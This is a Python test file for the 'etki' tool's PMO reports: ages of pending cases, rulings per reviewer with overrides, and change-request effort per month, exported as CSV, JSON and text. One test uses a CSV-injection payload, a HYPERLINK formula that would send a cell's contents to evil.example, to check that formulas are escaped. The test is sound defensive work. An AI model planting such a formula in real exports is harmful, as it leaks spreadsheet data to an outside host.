"""The reports a PMO uses (issue 14 item 7), on a real SQLite file and, where the server
is there, real PostgreSQL: the age of pending cases in buckets (from ``submitted_at``
when the request has a readable one, else ``created_at``), rulings per reviewer with
overrides (Turkish and German names in folded order), change-request effort per month of
ruling; and ``etki report`` as CSV (parsed back, formulas guarded), JSON and text.

Every case is stored through the repository with the store's clock set to the moment it
arrives, and ruled through the real ApprovalService with the clock set to the moment of
the ruling; every expected figure below is counted by hand from :data:`PENDING` and
:data:`RULED`."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from rich.console import Console

from etki.config import Settings
from etki.domain import AgeBucket, Effort, MonthEffort, Request, ReviewerRulings
from etki.reports import csv_cell, report_tables, write_csv
from etki.services import Desk, approval_service
from etki.store import CaseFileRepository
from tests.cli_support import run_etki
from tests.factories import make_decision, make_project
from tests.pg import fresh_schema

NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
"""When the report is made (the ages are measured at this moment)."""


REVIEWERS = ("Şule", "İlker", "Jürgen", "Zeynep", "Ömer")

# (case id, created_at, submitted_at) of the pending cases, and the bucket each falls in
PENDING: tuple[tuple[str, str, str | None], ...] = (
    ("req-demo-p1", "2026-11-29T11:00:00", "2026-11-29T06:00:00Z"),  # 6 h: < 1 day
    ("req-demo-p2", "2026-11-28T00:00:00", None),  # 1.5 d from created_at: 1–3 days
    ("req-demo-p3", "2026-11-29T11:00:00", "2026-11-26"),  # a date: 3.5 d, 3–7 days
    ("req-demo-p4", "2026-11-29T11:00:00", "2026-11-22T12:00:00+03:00"),  # 7.125 d: 1–4 weeks
    ("req-demo-p5", "2026-10-01T12:00:00", "not a date"),  # unreadable: 59 d, > 4 weeks
    ("req-demo-p6", "2026-11-29T11:00:00", "2026-11-30T12:00:00Z"),  # future: 0, < 1 day
    ("req-demo-p7", "2026-11-29T11:00:00", "2026-11-28T12:00:00Z"),  # exactly 1 d: 1–3 days
)

# (case id, verdict, action, reviewer as typed, ruled at, effort) of the ruled cases
RULED: tuple[tuple[str, str, str, str, str, Effort], ...] = (
    ("req-demo-r1", "CHANGE_REQUEST", "convert_to_cr", "S\u0327ule", "2026-10-05", Effort(2, 4)),
    ("req-demo-r2", "CHANGE_REQUEST", "convert_to_cr", "İlker", "2026-10-20", Effort(3, 5.5)),
    ("req-demo-r3", "IN_SCOPE", "convert_to_cr", "Jürgen", "2026-11-02", Effort(None, None)),
    ("req-demo-r4", "CHANGE_REQUEST", "convert_to_cr", "Zeynep", "2026-11-15", Effort(1, 2)),
    ("req-demo-r5", "IN_SCOPE", "approve", "Ömer", "2026-11-03", Effort(1, 3)),
    ("req-demo-r6", "CHANGE_REQUEST", "reject", "Ömer", "2026-11-04", Effort(1, 3)),
    ("req-demo-r7", "REJECT", "reject", "Şule", "2026-11-10", Effort(None, None)),
    ("req-demo-r8", "IN_SCOPE", "approve", "İlker", "2026-11-11", Effort(1, 3)),
    ("req-demo-r9", "REJECT", "approve", "Jürgen", "2026-11-12", Effort(1, 3)),
)
"""Three overrides (r3 Jürgen, r6 Ömer, r9 Jürgen); Şule once in NFD, once in NFC."""

BUCKETS = (
    AgeBucket("< 1 day", 0, 1, 2, 2, 0),  # p1, p6
    AgeBucket("1–3 days", 1, 3, 2, 1, 1),  # p7 (submitted), p2 (created)
    AgeBucket("3–7 days", 3, 7, 1, 1, 0),  # p3
    AgeBucket("1–4 weeks", 7, 28, 1, 1, 0),  # p4
    AgeBucket("> 4 weeks", 28, None, 1, 0, 1),  # p5
)
BY_REVIEWER = (  # İ with i, Ö with o, Ş with s: İlker, Jürgen, Ömer, Şule, Zeynep
    ReviewerRulings("İlker", in_scope=1, change_request=1, reject=0, overrides=0),
    ReviewerRulings("Jürgen", in_scope=1, change_request=1, reject=0, overrides=2),
    ReviewerRulings("Ömer", in_scope=1, change_request=0, reject=1, overrides=1),
    ReviewerRulings("Şule", in_scope=0, change_request=1, reject=1, overrides=0),
    ReviewerRulings("Zeynep", in_scope=0, change_request=1, reject=0, overrides=0),
)
CR_EFFORT = (
    MonthEffort("2026-10", crs=2, estimated=2, low=5.0, high=9.5),  # r1 2–4 + r2 3–5.5
    MonthEffort("2026-11", crs=2, estimated=1, low=1.0, high=2.0),  # r3 unknown, r4 1–2
)


def _at(moment: str) -> datetime:
    return datetime.fromisoformat(moment).replace(tzinfo=UTC)


def _store(repo: CaseFileRepository, clock: list[datetime], *, hostile: str | None = None) -> None:
    """Store :data:`PENDING` and :data:`RULED` through the repository and rule the
    ruled ones through the ApprovalService, the clock set for each step. ``hostile``:
    one more approver, with a case it approves."""
    names = (*REVIEWERS, hostile) if hostile else REVIEWERS
    repo.save_project(make_project(reviewers=names), "sha256:pmo", b"{}\n")
    for case_id, created, submitted in PENDING:
        clock[0] = _at(created)
        request = Request(
            case_id.removeprefix("req-demo-"), "Some request.", submitted_at=submitted
        )
        repo.add_cases("demo", [(request, make_decision(case_id))])
    clock[0] = _at("2026-09-01T09:00:00")
    repo.add_cases(
        "demo",
        [
            (
                Request(cid.removeprefix("req-demo-"), f"Request {cid}."),
                replace(make_decision(cid, verdict), effort=effort),
            )
            for cid, verdict, _a, _w, _d, effort in RULED
        ],
    )
    settings = Settings(db_url="sqlite://", wiki_dir=None, reviewer="nobody")
    approvals = approval_service(repo, settings)
    for cid, verdict, action, who, day, _effort in RULED:
        clock[0] = _at(f"{day}T15:30:00")
        override = {"approve": "IN_SCOPE", "convert_to_cr": "CHANGE_REQUEST"}.get(action, "REJECT")
        reason = "Not what the engine said." if override != verdict else ""
        approvals.rule(cid, action, reason=reason, reviewer=who)
    if hostile:
        clock[0] = _at("2026-11-20T10:00:00")
        repo.add_cases("demo", [(Request("h1", "Hostile."), make_decision("req-demo-h1"))])
        approvals.rule("req-demo-h1", "approve", reviewer=hostile)


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def store(request: pytest.FixtureRequest, tmp_path: Path):  # noqa: ANN201
    """(repository, its clock cell) on a SQLite file or a fresh PostgreSQL schema."""
    clock = [NOW]
    if request.param == "sqlite":
        repo = CaseFileRepository(f"sqlite:///{tmp_path}/etki.db", clock=lambda: clock[0])
        yield repo, clock
        repo.dispose()
        return
    with fresh_schema("etki_pmo") as pg:
        repo = CaseFileRepository(pg.engine(), clock=lambda: clock[0])
        yield repo, clock
        repo.dispose()


def _desk(repo: CaseFileRepository) -> Desk:
    return Desk(Settings(db_url="sqlite://", wiki_dir=None, reviewer="nobody"), repo)


def test_pending_age_buckets_reviewers_and_cr_effort(store) -> None:  # noqa: ANN001
    repo, clock = store
    _store(repo, clock)
    report = _desk(repo).report("demo", now=NOW)
    assert report.as_of == "2026-11-29T12:00:00Z"
    assert report.pending == len(PENDING) and report.ruled == len(RULED)
    assert report.pending_age == BUCKETS
    assert report.rulings_by_reviewer == BY_REVIEWER
    assert [r.reviewer for r in report.rulings_by_reviewer] != sorted(REVIEWERS)  # not codepoints
    assert report.cr_effort_by_month == CR_EFFORT
    # the figures Raporlar always had are still there, from the same function
    assert report.overrides == 3 and report.rulings == (
        ("IN_SCOPE", 3),  # r5, r8, r9
        ("CHANGE_REQUEST", 4),  # r1, r2, r3, r4
        ("REJECT", 2),  # r6, r7
    )
    assert [d for d, _, _ in report.rulings_by_day][:2] == ["2026-10-05", "2026-10-20"]


def test_the_store_clock_is_now_by_default(store) -> None:  # noqa: ANN001
    """Without ``now`` the ages are measured at the store's clock: at 2026-12-30 every
    pending case is more than four weeks old except p6, submitted on 2026-11-30."""
    repo, clock = store
    _store(repo, clock)
    clock[0] = datetime(2026, 12, 30, 12, 0, tzinfo=UTC)  # p6 is exactly 30 days old
    report = _desk(repo).report("demo")
    assert report.as_of == "2026-12-30T12:00:00Z"
    assert [b.cases for b in report.pending_age] == [0, 0, 0, 0, 7]


def _env(tmp_path: Path) -> dict[str, str]:
    return {
        "ETKI_DB_URL": f"sqlite:///{tmp_path}/etki.db",
        "ETKI_WIKI_DIR": "",
        "ETKI_REVIEWER": "nobody",
    }


def _cli_store(tmp_path: Path, *, hostile: str | None = None) -> None:
    clock = [NOW]
    repo = CaseFileRepository(f"sqlite:///{tmp_path}/etki.db", clock=lambda: clock[0])
    _store(repo, clock, hostile=hostile)
    repo.dispose()


def _sections(out: str) -> dict[str, list[list[str]]]:
    """``etki report --format csv`` split into its sections: name -> header + rows."""
    found: dict[str, list[list[str]]] = {}
    name = None
    for row in csv.reader(io.StringIO(out, newline="")):
        if not row:
            name = None
        elif row[0] == "report" and name is None:
            name = row[1]
            found[name] = []
        else:
            assert name is not None, row
            found[name].append(row)
    return found


def test_csv_has_every_report_as_a_section_and_parses_back(tmp_path: Path) -> None:
    _cli_store(tmp_path)
    done = run_etki(
        ["report", "--project", "demo", "--format", "csv"], env=_env(tmp_path), cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    assert "\r\n" in done.stdout  # RFC 4180 rows
    sections = _sections(done.stdout)
    assert list(sections) == [
        "totals",
        "engine_verdicts",
        "rulings",
        "rulings_by_day",
        "corrections",
        "pending_age",
        "rulings_by_reviewer",
        "cr_effort_by_month",
        "overdue_looks",
    ]
    # the clock of a CLI run is the wall clock: the pending ages are not checked here
    assert sections["pending_age"][0] == [
        "bucket",
        "min_days",
        "max_days",
        "cases",
        "from_submitted_at",
        "from_created_at",
    ]
    assert [r[0] for r in sections["pending_age"][1:]] == [b.label for b in BUCKETS]
    assert sum(int(r[3]) for r in sections["pending_age"][1:]) == len(PENDING)
    assert sections["rulings_by_reviewer"] == [
        ["reviewer", "rulings", "in_scope", "change_request", "reject", "overrides"],
        ["İlker", "2", "1", "1", "0", "0"],
        ["Jürgen", "2", "1", "1", "0", "2"],
        ["Ömer", "2", "1", "0", "1", "1"],
        ["Şule", "2", "0", "1", "1", "0"],
        ["Zeynep", "1", "0", "1", "0", "0"],
    ]
    assert sections["cr_effort_by_month"] == [
        [
            "month",
            "change_requests",
            "estimated",
            "not_estimated",
            "low_days",
            "high_days",
            "reviewer_estimates",
        ],
        ["2026-10", "2", "2", "0", "5", "9.5", "0"],
        ["2026-11", "2", "1", "1", "1", "2", "0"],
    ]
    assert ["overrides", "3"] in sections["totals"]


def test_one_report_is_one_plain_table(tmp_path: Path) -> None:
    """``--report NAME``: the header row, then the data rows, no section rows; an
    unknown name is exit 2 naming the reports there are."""
    _cli_store(tmp_path)
    done = run_etki(
        ["report", "--project", "demo", "--format", "csv", "--report", "cr_effort_by_month"],
        env=_env(tmp_path),
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout, newline="")))
    assert rows[0][0] == "month" and [r[0] for r in rows[1:]] == ["2026-10", "2026-11"]
    bad = run_etki(
        ["report", "--project", "demo", "--report", "nope"], env=_env(tmp_path), cwd=tmp_path
    )
    assert bad.returncode == 2 and "pending_age" in bad.stderr and "nope" in bad.stderr


def test_json_parses_back_to_the_same_figures(tmp_path: Path) -> None:
    _cli_store(tmp_path)
    done = run_etki(
        ["report", "--project", "demo", "--format", "json"], env=_env(tmp_path), cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["project"] == "demo" and data["as_of"].endswith("Z")
    reviewers = data["reports"]["rulings_by_reviewer"]["rows"]
    assert [r["reviewer"] for r in reviewers] == ["İlker", "Jürgen", "Ömer", "Şule", "Zeynep"]
    assert reviewers[1] == {
        "reviewer": "Jürgen",
        "rulings": 2,
        "in_scope": 1,
        "change_request": 1,
        "reject": 0,
        "overrides": 2,
    }
    assert data["reports"]["cr_effort_by_month"]["rows"][0] == {
        "month": "2026-10",
        "change_requests": 2,
        "estimated": 2,
        "not_estimated": 0,
        "low_days": 5.0,
        "high_days": 9.5,
        "reviewer_estimates": 0,
    }
    ages = data["reports"]["pending_age"]["rows"]
    assert [a["bucket"] for a in ages] == [b.label for b in BUCKETS]
    assert ages[-1]["max_days"] is None
    assert "submitted_at" in data["reports"]["pending_age"]["title"]


def test_text_output_names_every_report(tmp_path: Path) -> None:
    _cli_store(tmp_path)
    done = run_etki(["report", "--project", "demo"], env=_env(tmp_path), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    for title in ("Age of pending cases", "Rulings per reviewer", "Change-request effort"):
        assert title in done.stdout
    assert "2026-10                2          2              0         5        9.5" in done.stdout


HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def test_a_reviewer_name_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
    """A reviewer named like a formula is written with a leading quote (OWASP "CSV
    Injection"): a spreadsheet shows it as text. JSON keeps the name as stored."""
    _cli_store(tmp_path, hostile=HOSTILE)
    env = _env(tmp_path)
    done = run_etki(
        ["report", "--project", "demo", "--format", "csv", "--report", "rulings_by_reviewer"],
        env=env,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    names = [r[0] for r in csv.reader(io.StringIO(done.stdout, newline=""))][1:]
    assert "'" + HOSTILE in names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    data = json.loads(
        run_etki(["report", "--project", "demo", "--format", "json"], env=env, cwd=tmp_path).stdout
    )
    assert HOSTILE in [r["reviewer"] for r in data["reports"]["rulings_by_reviewer"]["rows"]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2", "'-2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTab", "' Tab"),  # a tab becomes a space (printable), the quote stays
        ("Ayşe", "Ayşe"),
        ("a=b", "a=b"),
        ("x\x1b[31m", "x␛[31m"),  # no terminal escape either
        (-2, -2),  # numbers stay numbers
        (26.0, 26),  # a whole number of days, written 26 as the text report prints it
        (0.25, 0.25),  # numbers stay numbers (written bare; text cells are quoted)
        (12.299999999, 12.3),
        (None, ""),
    ],
)
def test_csv_cell_guards_formulas(value: object, cell: object) -> None:
    assert csv_cell(value) == cell  # type: ignore[arg-type]


def test_write_csv_sections_are_separated_by_an_empty_row() -> None:
    clock = [NOW]
    repo = CaseFileRepository("sqlite://", clock=lambda: clock[0])
    _store(repo, clock)
    tables = report_tables(_desk(repo).report("demo", now=NOW))
    out = io.StringIO()
    write_csv(tables[:2], out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["report", "totals", "Totals"] and rows[1] == ["measure", "value"]
    gap = rows.index([])
    assert rows[gap + 1][:2] == ["report", "engine_verdicts"]
    repo.dispose()


def test_raporlar_draws_the_new_reports() -> None:
    """The TUI's Raporlar renders the same value: the buckets with their counts, the
    reviewers in folded order with their overrides, the CR effort per month."""
    from etki_tui.raporlar.pane import report_view

    clock = [NOW]
    repo = CaseFileRepository("sqlite://", clock=lambda: clock[0])
    _store(repo, clock)
    report = _desk(repo).report("demo", now=NOW)
    repo.dispose()
    # one column below 110 cells (80, 100); from 110 two (issue 34 item 8), where the
    # right half holds the ages and the reviewers
    console = Console(width=120, record=True, color_system=None)
    console.print(report_view(report, 120))
    wide = console.export_text().splitlines()
    assert wide[0].startswith("Totals") and "Rulings vs engine" in wide[0]
    assert any(re.search(r"\S\s{2,}1–3 days\s+2 ", line) for line in wide)
    for width in (80, 100):
        console = Console(width=width, record=True, color_system=None)
        console.print(report_view(report, width))
        shown = console.export_text()
        assert "Pending cases by age" in shown and "Rulings per reviewer" in shown
        lines = shown.splitlines()
        assert any(line.startswith("1–3 days") and " 2 " in line for line in lines)
        order = [shown.index(n) for n in ("İlker", "Jürgen", "Ömer", "Şule", "Zeynep")]
        assert order == sorted(order)
        assert "2026-10 2 CR 5–9.5 days" in shown
        assert "2026-11 2 CR   1–2 days 1 without estimate" in shown
        assert "from the request's submitted_at (5)" in shown
        assert "created_at (2)" in shown
